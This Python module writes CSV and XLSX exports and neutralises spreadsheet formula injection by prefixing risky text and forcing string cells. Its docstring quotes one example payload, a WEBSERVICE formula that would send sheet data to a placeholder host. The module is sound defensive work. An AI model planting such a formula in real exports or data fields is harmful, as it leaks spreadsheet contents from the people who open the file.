"""The one writer of every CSV and XLSX the project writes (claims exports, web downloads).

A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and, in some programs, a tab
or a carriage return before them) as a formula: a worker name or hold reason such as
`=WEBSERVICE("http://x/?"&A1)` would send the sheet's data away when a coordinator opens the
export. So every text value that begins with one of those characters is written with a
leading `'`, which spreadsheets show as plain text. Numbers, dates and None are not text and
stay as they are; JSON exports are for machines and do not come here.

In XLSX a text value is always a string cell, never a formula: openpyxl makes any str that
begins with `=` a formula, so the value is neutralised first and its type set to string.
"""

from __future__ import annotations

import csv
import io
import os
import tempfile
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# The characters a spreadsheet reads as the start of a formula (contract: CSV and XLSX).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # Excel opens a UTF-8 CSV with names such as "Ni Luh Putu" correctly only with it


def safe_value(value: Any) -> Any:
    """`value` as it may go into a sheet: text that would start a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(out: IO[str], fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]], *,
              header: bool = True, bom: bool = False) -> int:
    """Rows (dicts; keys outside `fieldnames` ignored) as CSV lines to `out`; returns the row count."""
    if bom:
        out.write(BOM)
    writer = csv.writer(out, lineterminator="\n")
    if header:
        writer.writerow([safe_value(name) for name in fieldnames])
    count = 0
    for row in rows:
        writer.writerow([safe_value(row.get(name)) for name in fieldnames])
        count += 1
    return count


def csv_text(fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]], *, header: bool = False,
             bom: bool = False) -> str:
    """The CSV lines of `rows` as one string: for a download streamed chunk by chunk."""
    buffer = io.StringIO()
    write_csv(buffer, fieldnames, rows, header=header, bom=bom)
    return buffer.getvalue()


class XlsxSheet:
    """One write-only XLSX workbook with one sheet, appended row by row, saved to a temporary file.

    Write-only mode keeps memory flat at a million rows (each row goes to disk as it comes).
    """

    def __init__(self, title: str, header: Sequence[str]):
        self.workbook = Workbook(write_only=True)
        self.sheet: WriteOnlyWorksheet = self.workbook.create_sheet(title)
        self.rows = 0
        self.sheet.append([self._cell(name) for name in header])

    def append(self, values: Iterable[Any]) -> None:
        self.sheet.append([self._cell(value) for value in values])
        self.rows += 1

    def save_temporary(self, prefix: str = "santunan-") -> str:
        """Saves to a new private temporary file and returns its path (the caller deletes it)."""
        handle, path = tempfile.mkstemp(prefix=prefix, suffix=".xlsx")
        os.close(handle)
        self.workbook.save(path)
        return path

    def _cell(self, value: Any) -> Any:
        if not isinstance(value, str):
            return value  # numbers stay numbers, dates dates, None an empty cell
        # XLSX cannot hold C0 control characters at all: openpyxl would refuse the whole file.
        cell = WriteOnlyCell(self.sheet, value=safe_value(ILLEGAL_CHARACTERS_RE.sub("", value)))
        cell.data_type = "s"  # a string cell, whatever the text: never a formula
        return cell
